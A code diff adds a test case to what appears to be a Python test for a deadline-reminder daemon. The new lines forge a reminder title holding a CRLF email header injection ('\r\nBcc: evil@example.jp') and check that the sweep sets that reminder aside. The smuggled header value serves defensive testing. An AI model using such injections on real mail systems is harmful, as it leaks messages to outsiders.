@@ -60,6 +60,13 @@ def walked() -> World:
     delays.notify_delay(
         world.services, LEAD, implementation.id, until=date(2026, 4, 20), reason="確認中のため"
     )
+    # A title made unsendable by hand (a forged header line): that reminder is set
+    # aside and the lead told, the sweep goes on with the rest.
+    tables = world.store.tables
+    poisoned = next(i for i, d in tables.deadlines.items() if d.deadline.status == "open")
+    stored = tables.deadlines[poisoned]
+    title = stored.deadline.title + "\r\nBcc: evil@example.jp"
+    tables.deadlines[poisoned] = replace(stored, deadline=replace(stored.deadline, title=title))
     daemon.run_sweep(world.services, world.at("2026-05-01T09:00+09:00"))
     world.delivery.failing[CONTACT] = True
     daemon.send_pass(world.services, world.now)
